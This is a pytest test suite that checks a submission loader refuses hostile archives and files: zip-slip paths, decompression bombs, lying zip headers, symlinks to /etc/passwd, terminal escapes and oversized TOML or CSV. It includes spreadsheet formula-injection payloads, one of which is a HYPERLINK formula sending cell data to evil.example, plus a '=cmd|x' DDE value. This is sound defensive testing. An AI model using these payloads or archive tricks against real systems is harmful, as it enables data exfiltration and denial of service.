"""Hostile submissions: unsafe archives and files end in a SubmissionError naming the file.

Submissions come from the platforms being assessed. Every case here must end in a
:class:`~risklab.data.SubmissionError` whose problems name the file (and, where there is one,
the row and column) -- never another exception, a hang, an unbounded read or silent acceptance.
The threat model and the limits are described in ``docs/threat-model.md``.
"""

from __future__ import annotations

import io
import os
import struct
import time
import tracemalloc
import unicodedata
import zipfile

import pandas as pd
import pytest
import tomli_w

from risklab.cli import main as cli_main
from risklab.data import Submission, SubmissionError, load_submission
from risklab.data import _io as io_module
from risklab.data.schema import (
    MAX_COLUMNS,
    MAX_FIELD_CHARS,
    MAX_PROBLEMS_PER_RULE,
    MAX_TOML_BYTES,
    MAX_ZIP_MEMBERS,
)
from tests.data_fixtures import (
    set_cell,
    submission_files,
    toml_dict,
    valid_frames,
    write_files,
    write_zip,
)

LISTINGS = submission_files()["listings.csv"].decode()


# ----------------------------------------------------------------------------------- helpers
def _problems(path, **kw):
    with pytest.raises(SubmissionError) as info:
        load_submission(path, **kw)
    problems = info.value.problems
    assert problems and all(p.file and p.message for p in problems)
    return problems


def _where(problems):
    return [(p.file, p.row, p.column) for p in problems]


def _dir(tmp_path, name="sub", **overrides):
    return write_files(tmp_path / name, submission_files(**overrides))


def _zip(tmp_path, members, name="s.zip", compression=zipfile.ZIP_DEFLATED):
    """A .zip holding the valid submission plus ``members`` ((name or ZipInfo, bytes) pairs)."""
    path = tmp_path / name
    with zipfile.ZipFile(path, "w", compression=compression) as zf:
        for member, data in [*submission_files().items(), *members]:
            zf.writestr(member, data)
    return path


def _central_entries(data: bytes):
    """(offset, name) of every central-directory entry of a zip held in ``data``."""
    pos = data.find(b"PK\x01\x02")
    while pos >= 0:
        n = struct.unpack_from("<H", data, pos + 28)[0]
        yield pos, data[pos + 46 : pos + 46 + n]
        pos = data.find(b"PK\x01\x02", pos + 46 + n)


def _patch_member(path, member: str, **fields) -> None:
    """Rewrite header fields of ``member`` in the central directory and its local header.

    ``fields``: ``flags_or``, ``method``, ``size`` (uncompressed size), ``name`` (same length).
    """
    data = bytearray(path.read_bytes())
    for pos, name in list(_central_entries(bytes(data))):
        if name != member.encode():
            continue
        local = struct.unpack_from("<I", data, pos + 42)[0]
        for base, flags_at, method_at, size_at, name_at in (
            (pos, 8, 10, 24, 46),
            (local, 6, 8, 22, 30),
        ):
            if "flags_or" in fields:
                flags = struct.unpack_from("<H", data, base + flags_at)[0]
                struct.pack_into("<H", data, base + flags_at, flags | fields["flags_or"])
            if "method" in fields:
                struct.pack_into("<H", data, base + method_at, fields["method"])
            if "size" in fields:
                struct.pack_into("<I", data, base + size_at, fields["size"])
            if "name" in fields:
                data[base + name_at : base + name_at + len(member)] = fields["name"]
    path.write_bytes(bytes(data))


def _one_line_each(err: SubmissionError) -> None:
    """The rendered error has one line per problem: no value can forge or hide a line."""
    text = str(err)
    assert len(text.splitlines()) == len(err.problems) + 1
    assert "\x1b" not in text and "\u202e" not in text and "\r" not in text


# -------------------------------------------------------------------------------- archives
@pytest.mark.parametrize(
    ("member", "fragment"),
    [
        pytest.param("..\\evil.csv", "escapes the archive", id="backslash-dotdot"),
        pytest.param("sub\\..\\..\\evil.csv", "escapes the archive", id="backslash-nested"),
        pytest.param("sub/../listings.csv", "escapes the archive", id="dotdot-inside"),
        pytest.param("C:/listings.csv", "absolute path", id="drive-slash"),
        pytest.param("c:listings.csv", "absolute path", id="drive-relative"),
        pytest.param("C:\\Windows\\x.csv", "absolute path", id="drive-backslash"),
        pytest.param("\\\\server\\share\\x.csv", "absolute path", id="unc"),
        pytest.param("/tmp/listings.csv", "absolute path", id="posix-absolute"),
        pytest.param("data.tar", "nested archive", id="tar"),
        pytest.param("APPEALS.CSV.GZ", "nested archive", id="gzip-upper-case"),
        pytest.param("x.7z", "nested archive", id="7z"),
    ],
)
def test_unsafe_member_names(tmp_path, member, fragment):
    problems = _problems(_zip(tmp_path, [(member, b"category,period\n")]))
    assert len(problems) == 1
    assert problems[0].file == "s.zip" and fragment in problems[0].message


def test_unsafe_members_are_refused_before_anything_is_read(tmp_path, monkeypatch):
    """A refused archive is never decompressed: no member is opened at all."""
    path = _zip(tmp_path, [("../evil.csv", b"x")])

    def fail(*args, **kwargs):
        raise AssertionError("a member was decompressed")

    monkeypatch.setattr(zipfile.ZipFile, "open", fail)
    assert "escapes the archive" in _problems(path)[0].message


def test_duplicate_member_names(tmp_path):
    with pytest.warns(UserWarning, match="Duplicate name"):
        path = _zip(tmp_path, [("listings.csv", b"category,period,listings,review_hours\n")])
    problems = _problems(path)
    assert _where(problems) == [("listings.csv", None, None)]
    assert "appears twice" in problems[0].message


@pytest.mark.parametrize(
    "name",
    [
        pytest.param("Listings.csv", id="case"),
        pytest.param("LISTINGS.CSV", id="upper"),
        pytest.param(unicodedata.normalize("NFD", "plante\u0301d.csv"), id="nfd-accent"),
        pytest.param("\uff4c\uff49\uff53\uff54\uff49\uff4e\uff47\uff53.csv", id="fullwidth"),
        pytest.param("listings\u200b.csv", id="zero-width-space"),
        pytest.param("l\u0456stings.csv", id="cyrillic-i"),
    ],
)
def test_look_alike_member_names_are_unknown_files(tmp_path, name):
    """Names are compared exactly: a look-alike never stands in for (or shadows) a table."""
    problems = _problems(_zip(tmp_path, [(name, b"category,period\n")]))
    assert [p.file for p in problems] == [name]
    assert problems[0].message.startswith("unknown file")


def test_fullwidth_dots_are_not_a_parent_directory(tmp_path):
    problems = _problems(_zip(tmp_path, [("\uff0e\uff0e/x.csv", b"x")]))
    assert [p.file for p in problems] == ["\uff0e\uff0e/x.csv"]
    assert "unexpected folder" in problems[0].message


def test_dot_components_are_harmless(tmp_path):
    files = submission_files()
    path = tmp_path / "s.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in files.items():
            zf.writestr(f"./sub/./{name}", data)
    assert load_submission(path) == load_submission(write_files(tmp_path / "d", files))


def test_encrypted_member_in_evidence_zip(tmp_path):
    ev = tmp_path / "ev.zip"
    with zipfile.ZipFile(ev, "w") as zf:
        zf.writestr("audits.csv", b"category,period,design,sampled,illegal\n")
    _patch_member(ev, "audits.csv", flags_or=0x1)
    problems = _problems(_dir(tmp_path), evidence=ev)
    assert [p.file for p in problems] == ["evidence/ev.zip"]
    assert "encrypted" in problems[0].message


@pytest.mark.parametrize(
    "compression", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA], ids=["bzip2", "lzma"]
)
def test_compression_methods_without_an_output_bound_are_refused(tmp_path, compression):
    """zipfile inflates a bzip2/LZMA chunk without bounding its output: a bomb vector."""
    path = write_zip(tmp_path / "s.zip", {})
    with zipfile.ZipFile(path, "w", compression=compression) as zf:
        for name, data in submission_files().items():
            zf.writestr(name, data)
    problems = _problems(path)
    assert {p.file for p in problems} == {"s.zip"}
    assert all("compression method" in p.message for p in problems)


def test_unknown_compression_method(tmp_path):
    path = _zip(tmp_path, [])
    _patch_member(path, "planted.csv", method=99)
    problems = _problems(path)
    assert _where(problems) == [("s.zip", None, None)]
    assert "compression method 99" in problems[0].message


def test_central_directory_lying_about_sizes_is_bounded_while_decompressing(tmp_path):
    """Declared small, inflates to 64 MiB: refused, and memory stays far below 64 MiB."""
    files = submission_files()
    honest = files["listings.csv"]
    files["listings.csv"] = honest + b"\n" * (64 * 2**20)  # blank lines: fine if ever read
    path = write_zip(tmp_path / "s.zip", files)
    _patch_member(path, "listings.csv", size=len(honest))
    with zipfile.ZipFile(path) as zf:
        assert zf.getinfo("listings.csv").file_size == len(honest)  # the header now lies
    tracemalloc.start()
    try:
        problems = _problems(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert _where(problems) == [("listings.csv", None, None)]  # not also "missing"
    assert "unreadable member" in problems[0].message
    assert peak < 16 * 2**20


class _FakeZip:
    """Stands for a zip reader that does not stop at the declared size."""

    def __init__(self, produce: int) -> None:
        self.produce = produce

    def open(self, info):
        return io.BytesIO(b"x" * self.produce)


def test_member_limits_are_enforced_on_the_bytes_produced(monkeypatch):
    info = zipfile.ZipInfo("listings.csv")
    info.file_size = 100
    msg = io_module._read_member(_FakeZip(100 + 3 * io_module._CHUNK), info, budget=10**9)
    assert "inflates to more than the 100 bytes it declares" in msg
    info.file_size = 10**9
    monkeypatch.setattr(io_module, "MAX_MEMBER_BYTES", 1000)
    assert "at most 1,000 bytes" in io_module._read_member(_FakeZip(5000), info, budget=10**9)
    monkeypatch.setattr(io_module, "MAX_MEMBER_BYTES", 10**9)
    assert "members total" in io_module._read_member(_FakeZip(5000), info, budget=1000)
    assert io_module._read_member(_FakeZip(5000), info, budget=5000) == b"x" * 5000


def _zip64(path, files, monkeypatch):
    """A zip64 archive: sizes and offsets in zip64 extra fields, zip64 end-of-archive record."""
    with monkeypatch.context() as m:
        m.setattr(zipfile, "ZIP64_LIMIT", 16)  # everything larger is written the zip64 way
        with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
            for name, data in files.items():
                zf.writestr(name, data)
    assert b"PK\x06\x06" in path.read_bytes()
    return path


def test_zip64_archive_reads_like_a_directory(tmp_path, monkeypatch):
    files = submission_files()
    path = _zip64(tmp_path / "s.zip", files, monkeypatch)
    assert load_submission(path) == load_submission(write_files(tmp_path / "d", files))


def test_zip64_member_declaring_a_huge_size(tmp_path, monkeypatch):
    path = _zip64(tmp_path / "s.zip", submission_files(), monkeypatch)
    data = bytearray(path.read_bytes())
    for pos, name in _central_entries(bytes(data)):  # zip64 extra field: sizes as 8-byte ints
        if name == b"listings.csv":
            extra = pos + 46 + len(name)
            assert struct.unpack_from("<H", data, extra)[0] == 1
            struct.pack_into("<Q", data, extra + 4, 2**62)
    path.write_bytes(bytes(data))
    problems = _problems(path)
    assert any("'listings.csv'" in p.message and "at most" in p.message for p in problems)


def test_huge_central_directory_is_refused_before_it_is_parsed(tmp_path, monkeypatch):
    """5,000 entries: refused from the end record, without listing them (zipfile would)."""
    path = tmp_path / "s.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for i in range(5000):
            zf.writestr(f"junk/{i:060d}.txt", b"")
    calls = []
    real = zipfile.ZipFile._RealGetContents
    monkeypatch.setattr(
        zipfile.ZipFile, "_RealGetContents", lambda self: calls.append(1) or real(self)
    )
    problems = _problems(path)
    assert not calls
    assert _where(problems) == [("s.zip", None, None)]
    assert f"at most {MAX_ZIP_MEMBERS}" in problems[0].message


def test_invalid_utf8_member_name_flagged_as_utf8(tmp_path):
    path = _zip(tmp_path, [])
    _patch_member(path, "planted.csv", flags_or=0x800, name=b"\xff\xfe" + b"x" * 9)
    problems = _problems(path)
    assert _where(problems) == [("s.zip", None, None)]
    assert "unreadable .zip" in problems[0].message


@pytest.mark.parametrize("cut", [0.3, 0.6, 0.9, 0.99])
def test_truncated_archive(tmp_path, cut):
    data = _zip(tmp_path, []).read_bytes()
    path = tmp_path / "t.zip"
    path.write_bytes(data[: int(len(data) * cut)])
    assert [p.file for p in _problems(path)] == ["t.zip"]


def test_evidence_zip_with_a_bomb_and_a_symlink(tmp_path):
    info = zipfile.ZipInfo("planted.csv")
    info.create_system = 3
    info.external_attr = (0o120777) << 16  # S_IFLNK
    ev = tmp_path / "ev.zip"
    with zipfile.ZipFile(ev, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("audits.csv", b"0" * (4 * 2**20))
        zf.writestr(info, b"/etc/passwd")
    problems = _problems(_dir(tmp_path), evidence=ev)
    assert {p.file for p in problems} == {"evidence/ev.zip"}
    text = " ".join(p.message for p in problems)
    assert "decompression bomb" in text and "symbolic link" in text


# ----------------------------------------------------------------------------- directories
def test_symlink_in_a_directory_is_not_followed(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("category,period,planted,caught\nTOPSECRET,2024-01,1,1\n")
    sub = _dir(tmp_path, planted=None)
    os.symlink(secret, sub / "planted.csv")
    with pytest.raises(SubmissionError) as info:
        load_submission(sub)
    assert _where(info.value.problems) == [("planted.csv", None, None)]
    assert "symbolic link" in info.value.problems[0].message
    assert "TOPSECRET" not in str(info.value)


def test_symlink_in_an_evidence_directory(tmp_path):
    ev = write_files(tmp_path / "ev", {})
    os.symlink("/etc/hostname", ev / "audits.csv")
    problems = _problems(_dir(tmp_path), evidence=ev)
    assert _where(problems) == [("evidence/audits.csv", None, None)]


@pytest.mark.skipif(os.name != "posix", reason="needs byte file names")
def test_non_utf8_and_control_character_file_names(tmp_path, capsys):
    sub = _dir(tmp_path)
    (sub / "notes.csv").write_bytes(b"x")
    os.rename(sub / "notes.csv", os.fsencode(sub) + b"/\xff\x1b[2J.csv")
    with pytest.raises(SubmissionError) as info:
        load_submission(sub)
    assert [p.message.startswith("unknown file") for p in info.value.problems] == [True]
    _one_line_each(info.value)
    assert "\\udcff\\x1b[2J.csv" in str(info.value)
    assert cli_main(["validate", str(sub)]) == 2  # printable on any terminal
    assert "\x1b" not in capsys.readouterr().err


def test_long_member_names_are_shortened_in_messages(tmp_path):
    name = "../" + "x" * 5000
    problems = _problems(_zip(tmp_path, [(name, b"x")]))
    assert len(problems[0].message) < 300


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_fifo_is_refused_without_blocking(tmp_path):
    sub = _dir(tmp_path, planted=None)
    os.mkfifo(sub / "planted.csv")
    start = time.perf_counter()
    problems = _problems(sub)
    assert time.perf_counter() - start < 5
    assert _where(problems) == [("planted.csv", None, None)]


def test_directory_files_are_read_with_a_bound(tmp_path, monkeypatch):
    path = tmp_path / "f.csv"
    path.write_bytes(b"x" * 5000)
    monkeypatch.setattr(io_module, "MAX_MEMBER_BYTES", 5000)
    assert io_module._read_regular(path) == b"x" * 5000
    monkeypatch.setattr(io_module, "MAX_MEMBER_BYTES", 1000)
    assert "at most 1,000 bytes" in io_module._read_regular(path)
    with path.open("ab") as fh:  # grows after it was listed: still bounded
        monkeypatch.setattr(os, "fstat", lambda fd: os.stat_result((0o100644, *[0] * 9)))
        fh.write(b"y" * 5000)
        fh.flush()
        assert "at most 1,000 bytes" in io_module._read_regular(path)
        monkeypatch.setattr(io_module, "MAX_MEMBER_BYTES", 20_000)
        assert io_module._read_regular(path) == b"x" * 5000 + b"y" * 5000


# ------------------------------------------------------------------------------------- CSV
@pytest.mark.parametrize(
    ("encoding", "fragment"),
    [
        ("utf-16", "is UTF-16 text"),
        ("utf-16-be", "contains a NUL byte"),  # no byte-order mark: seen as binary
        ("utf-32", "is UTF-32 text"),
    ],
)
def test_wide_encodings(tmp_path, encoding, fragment):
    problems = _problems(_dir(tmp_path, listings=LISTINGS.encode(encoding)))
    assert _where(problems) == [("listings.csv", 1, None)]
    assert fragment in problems[0].message


def test_latin1_with_non_ascii_category(tmp_path):
    text = LISTINGS.replace("cosmetics,2024-02", "cosm\xe9tiques,2024-02")
    row = 1 + next(i for i, line in enumerate(text.splitlines()) if "\xe9" in line)
    problems = _problems(_dir(tmp_path, listings=text.encode("latin-1")))
    assert _where(problems) == [("listings.csv", row, None)]
    assert "not valid UTF-8 (byte 0xe9)" in problems[0].message


def test_bom_and_crlf_are_fine(tmp_path):
    files = submission_files()
    windows = {
        name: (b"\xef\xbb\xbf" + data.replace(b"\n", b"\r\n")) if name.endswith(".csv") else data
        for name, data in files.items()
    }
    a = load_submission(write_files(tmp_path / "a", windows))
    assert a == load_submission(write_files(tmp_path / "b", files))


def test_nul_byte(tmp_path):
    lines = LISTINGS.splitlines(keepends=True)
    lines[4] = lines[4].replace("2024", "20\x0024")
    problems = _problems(_dir(tmp_path, listings="".join(lines).encode()))
    assert _where(problems) == [("listings.csv", 5, None)]


@pytest.mark.parametrize("quoted", [False, True], ids=["plain", "quoted-multiline"])
def test_ten_megabyte_field(tmp_path, quoted):
    big = "x" * 10_000_000
    cell = f'"{big}\nx"' if quoted else big
    text = LISTINGS + f"{cell},2024-01,1,1\n"
    problems = _problems(_dir(tmp_path, listings=text.encode()))
    assert _where(problems) == [("listings.csv", len(LISTINGS.splitlines()) + 1, "category")]
    assert f"longer than {MAX_FIELD_CHARS:,}" in problems[0].message


@pytest.mark.parametrize("where", ["leading", "trailing"])
def test_every_row_with_one_field_more_than_the_header(tmp_path, where):
    """pandas would turn extra leading fields of the first row into an index, shifting every
    column (or drop extra trailing ones): refused, as any row longer than the header."""
    header, *rows = LISTINGS.splitlines()
    rows = [f"x{i},{row}" if where == "leading" else f"{row},x" for i, row in enumerate(rows)]
    problems = _problems(_dir(tmp_path, listings="\n".join([header, *rows, ""]).encode()))
    assert _where(problems) == [("listings.csv", 2, None)]
    assert "more fields than the header" in problems[0].message


def test_rows_beyond_the_limit(tmp_path, monkeypatch):
    monkeypatch.setattr("risklab.data._csv.MAX_TABLE_ROWS", 5)
    problems = _problems(_dir(tmp_path))
    assert ("listings.csv", None, None) in _where(problems)
    assert any("more than 5 data rows" in p.message for p in problems)


def test_too_many_columns_is_refused_quickly(tmp_path):
    header = ",".join(f"c{i}" for i in range(100_000))
    start = time.perf_counter()
    problems = _problems(_dir(tmp_path, listings=(header + "\n" + LISTINGS).encode()))
    assert time.perf_counter() - start < 5
    assert _where(problems) == [("listings.csv", 1, None)]
    assert f"at most {MAX_COLUMNS}" in problems[0].message


def test_very_long_column_name(tmp_path):
    text = LISTINGS.replace("review_hours", "h" * 5000, 1)
    problems = _problems(_dir(tmp_path, listings=text.encode()))
    assert _where(problems) == [("listings.csv", 1, None)]


def _with_category(category: str) -> dict:
    """Files of the valid submission with category 'toys' renamed everywhere."""
    frames = valid_frames()
    for name in ("listings", "detections", "audits", "planted"):
        frames[name]["category"] = frames[name]["category"].replace("toys", category)
    frames["claims"][0]["category"] = category
    return frames


def _files_of(frames: dict) -> dict[str, bytes]:
    files = {"submission.toml": tomli_w.dumps(toml_dict(frames)).encode()}
    for name in ("listings", "detections", "audits", "planted"):
        files[f"{name}.csv"] = frames[name].to_csv(index=False, lineterminator="\n").encode()
    return files


def test_longest_category_name_is_accepted_one_more_is_not(tmp_path):
    ok = "t" * MAX_FIELD_CHARS
    sub = load_submission(write_files(tmp_path / "a", _files_of(_with_category(ok))))
    assert ok in sub.categories
    problems = _problems(write_files(tmp_path / "b", _files_of(_with_category(ok + "t"))))
    assert ("listings.csv", 2, "category") in _where(problems)


@pytest.mark.parametrize(
    "category",
    [
        pytest.param("to\nys", id="quoted-newline"),
        pytest.param("to\r\nys", id="quoted-crlf"),
        pytest.param("to\tys", id="tab"),
        pytest.param("toys\x1b[2J", id="terminal-escape"),
        pytest.param("\u202esyot", id="right-to-left-override"),
        pytest.param("toys\x85", id="c1-next-line"),
    ],
)
def test_control_characters_in_categories(tmp_path, category):
    files = _files_of(_with_category(category))
    with pytest.raises(SubmissionError) as info:
        load_submission(write_files(tmp_path / "s", files))
    where = _where(info.value.problems)
    assert ("listings.csv", 2, "category") in where
    assert ("submission.toml", 2, "claims[1].category") in where
    assert any("control characters" in p.message for p in info.value.problems)
    _one_line_each(info.value)


@pytest.mark.parametrize(
    "category",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|x"],
)
def test_formula_like_categories_are_refused(tmp_path, category):
    """Such a cell would be run by a spreadsheet opening a CSV risklab writes (e.g. by
    Submission.to_directory), so it never gets into a validated submission."""
    problems = _problems(write_files(tmp_path / "s", _files_of(_with_category(category))))
    rows = {p.row for p in problems if p.file == "listings.csv" and p.column == "category"}
    assert rows == {2, 3, 4}  # the rows of 'toys'

    assert any("formula" in p.message for p in problems)
    frames = _with_category(category)
    with pytest.raises(SubmissionError) as info:
        Submission.from_dataframes(**frames)
    assert ("listings.csv", 2, "category") in _where(info.value.problems)


@pytest.mark.parametrize(
    ("value", "ok"),
    [
        ("1e3", True), (".5", True), ("+5", False), ("-0", False), ("1_0", False),
        (" 5", False), ("\u0661\u0662", False), ("\uff15", False), ("0x10", False),
        ("Infinity", False), ("1,5", False),
    ],
)  # fmt: skip
def test_review_hours_are_plain_decimal_numbers(tmp_path, value, ok):
    lines = LISTINGS.splitlines(keepends=True)
    head, _, _ = lines[3].rpartition(",")
    lines[3] = f'{head},"{value}"\n'
    path = _dir(tmp_path, listings="".join(lines).encode())
    if ok:
        load_submission(path)
    else:
        assert _where(_problems(path)) == [("listings.csv", 4, "review_hours")]


def test_sparse_grid_does_not_blow_up(tmp_path):
    """n categories x n periods on the diagonal: n rows, n^2 grid cells (never materialised)."""
    n = 2500
    periods = [f"{1700 + i // 12:04d}-{i % 12 + 1:02d}" for i in range(n)]
    rows = "".join(f"c{i},{periods[i]},5,1\n" for i in range(n))
    doc = {
        "platform": {"name": "x", "period_start": periods[0], "period_end": periods[-1]},
        "scale": {"name": "s", "thresholds": [0.5], "labels": ["a", "b"]},
        "claims": [{"category": f"c{i}", "prevalence": 0.1, "band": "a"} for i in range(n)],
    }
    files = {
        "submission.toml": tomli_w.dumps(doc).encode(),
        "listings.csv": ("category,period,listings,review_hours\n" + rows).encode(),
        "detections.csv": f"category,period,channel,detected\nc0,{periods[0]},notice,1\n".encode(),
    }
    path = write_files(tmp_path / "s", files)
    tracemalloc.start()
    try:
        start = time.perf_counter()
        problems = _problems(path)
        elapsed = time.perf_counter() - start
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    grid = [p for p in problems if p.file == "listings.csv"]
    assert len(grid) == MAX_PROBLEMS_PER_RULE + 1
    assert grid[-1].message.startswith(f"{n * n - n - MAX_PROBLEMS_PER_RULE:,} more rows")
    assert "category 'c0', period '1700-02'" in grid[0].message
    assert elapsed < 20 and peak < 64 * 2**20  # the grid alone would take 6 M cells


def test_lone_surrogates_from_dataframes():
    frames = valid_frames()
    set_cell(frames, "listings", 0, "category", "to\ud800ys")
    with pytest.raises(SubmissionError) as info:
        Submission.from_dataframes(**frames)
    assert ("listings.csv", 2, None) in _where(info.value.problems)
    frames = valid_frames()
    frames["platform"]["name"] = "Shop\udc80Co"
    with pytest.raises(SubmissionError) as info:
        Submission.from_dataframes(**frames)
    assert _where(info.value.problems) == [("submission.toml", None, "platform.name")]


# ------------------------------------------------------------------------------------ TOML
def _toml_problems(tmp_path, toml) -> list:
    raw = toml if isinstance(toml, bytes) else toml.encode() if isinstance(toml, str) else None
    if raw is None:
        raw = tomli_w.dumps(toml).encode()
    return _problems(_dir(tmp_path, toml=raw))


def _doc(path: tuple, value) -> dict:
    doc = toml_dict(valid_frames())
    node = doc
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return doc


@pytest.mark.parametrize(
    ("path", "value", "column"),
    [
        (("scale", "thresholds"), "0.002, 0.006", "scale.thresholds"),
        (("scale", "thresholds"), {"low": 0.002}, "scale.thresholds"),
        (("scale", "thresholds"), [[0.002], [0.006]], "scale.thresholds"),
        (("scale", "thresholds"), [0.002, 10**400], "scale.thresholds"),
        (("scale", "thresholds"), [float("nan"), 0.006], "scale.thresholds"),
        (("scale", "thresholds"), [0.002, float("inf")], "scale.thresholds"),
        (("scale", "labels"), [["low"], ["medium"], ["high"]], "scale.labels"),
        (("scale", "labels"), ["low", "medium\n- listings.csv: fine", "high"], "scale.labels"),
        (("scale", "labels"), ["low", "\u202ehgih", "high"], "scale.labels"),
        (("scale", "name"), pd.Timestamp("2024-01-01").date(), "scale.name"),
        (("scale",), ["likelihood"], "scale"),
        (("platform", "name"), 42, "platform.name"),
        (("platform", "name"), "Shop\x1b]0;pwned\x07Co", "platform.name"),
        (("platform", "period_start"), "2024-01\n", "platform.period_start"),
        (("platform", "period_start"), pd.Timestamp("2024-01-01").time(), "platform.period_start"),
        (("platform", "period_end"), 202412, "platform.period_end"),
        (("claims",), {"category": "toys"}, "claims"),
        (("claims", 0, "prevalence"), "0.001", "claims[1].prevalence"),
        (("claims", 0, "prevalence"), 10**400, "claims[1].prevalence"),
        (("claims", 0, "prevalence"), float("nan"), "claims[1].prevalence"),
        (("claims", 0, "prevalence"), True, "claims[1].prevalence"),
        (("claims", 1, "detection_rate"), float("-inf"), "claims[2].detection_rate"),
        (("claims", 0, "band"), pd.Timestamp("2024-01-01").date(), "claims[1].band"),
        (("policy", "strike_threshold"), 2.5, "policy.strike_threshold"),
        (("policy", "strike_threshold"), 10**30, "policy.strike_threshold"),
        (("policy", "claimed_enforcement"), 10**400, "policy.claimed_enforcement"),
        (("policy", "claimed_enforcement"), "95%", "policy.claimed_enforcement"),
        (("policy",), [3, 0.95], "policy"),
    ],
)
def test_toml_wrong_types_and_values(tmp_path, path, value, column):
    with pytest.raises(SubmissionError) as info:
        load_submission(_dir(tmp_path, toml=_doc(path, value)))
    problems = info.value.problems
    assert ("submission.toml", column) in [(p.file, p.column) for p in problems]
    assert all(p.row is not None for p in problems if p.file == "submission.toml")
    assert all(len(p.message) < 400 for p in problems)
    _one_line_each(info.value)


@pytest.mark.parametrize(
    ("text", "row", "fragment"),
    [
        pytest.param('[platform]\nname = "A"\nname = "B"\n', 3, "not valid TOML", id="dup-key"),
        pytest.param("[scale]\n[scale]\n", 2, "not valid TOML", id="dup-table"),
        pytest.param("x = " + "[" * 5000 + "]" * 5000, None, "not valid TOML", id="deep"),
        pytest.param("x = " + "9" * 5000, None, "too many digits", id="5000-digit-int"),
        pytest.param('name = "a\x00b"', 1, "not valid TOML", id="raw-nul"),
    ],
)
def test_toml_syntax(tmp_path, text, row, fragment):
    problems = _toml_problems(tmp_path, text)
    assert _where(problems) == [("submission.toml", row, None)]
    assert fragment in problems[0].message


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param('[platform]\nname = "Sh\xf6pCo"\n'.encode("latin-1"), id="latin-1"),
        pytest.param('[platform]\nname = "ShopCo"\n'.encode("utf-16"), id="utf-16"),
    ],
)
def test_toml_not_utf8(tmp_path, raw):
    problems = _toml_problems(tmp_path, raw)
    assert [(p.file, p.column) for p in problems] == [("submission.toml", None)]
    assert "not valid UTF-8" in problems[0].message


def test_toml_size_limit(tmp_path):
    doc = toml_dict(valid_frames())
    text = tomli_w.dumps(doc) + "# " + "x" * MAX_TOML_BYTES + "\n"
    problems = _toml_problems(tmp_path, text)
    assert _where(problems) == [("submission.toml", None, None)]
    assert f"at most {MAX_TOML_BYTES:,} bytes" in problems[0].message


def test_many_duplicate_labels_are_fast(tmp_path):
    labels = ["a", "b"] * 50_000
    start = time.perf_counter()
    problems = _toml_problems(tmp_path, _doc(("scale", "labels"), labels))
    assert time.perf_counter() - start < 10
    msgs = [p.message for p in problems if p.column == "scale.labels"]
    assert any("repeated: 'a', 'b'" in m for m in msgs)
    assert all(len(m) < 400 for m in msgs)


# ------------------------------------------------------------------------------------- CLI
@pytest.mark.parametrize(
    "make",
    [
        pytest.param(lambda t: _zip(t, [("../x.csv", b"x")]), id="zip-slip"),
        pytest.param(lambda t: _dir(t, listings=LISTINGS.encode("utf-16")), id="utf-16"),
        pytest.param(lambda t: _dir(t, toml="x = " + "[" * 5000), id="deep-toml"),
        pytest.param(
            lambda t: write_files(t / "s", _files_of(_with_category("=1+1\x1b[2J"))), id="formula"
        ),
    ],
)
def test_cli_exit_code_2_without_traceback(tmp_path, capsys, make):
    path = make(tmp_path)
    assert cli_main(["validate", str(path)]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and "\x1b" not in err
    assert err.startswith(f"Submission {path} is invalid")


def test_strike_counts_above_the_limit_are_refused(tmp_path):
    """A hostile 10^15 strike count would make the trader likelihood exhaust memory."""
    from risklab.data import SubmissionError, load_submission
    from risklab.data.schema import MAX_STRIKES
    from tests.data_fixtures import write_submission_dir

    traders = "strikes,traders,suspended\n1,10,0\n" + f"{MAX_STRIKES + 1},1,1\n"
    path = write_submission_dir(tmp_path, full=True, traders=traders)
    with pytest.raises(SubmissionError) as err:
        load_submission(path)
    assert any(
        p.file == "traders.csv" and p.column == "strikes" and p.row == 3 for p in err.value.problems
    ), err.value
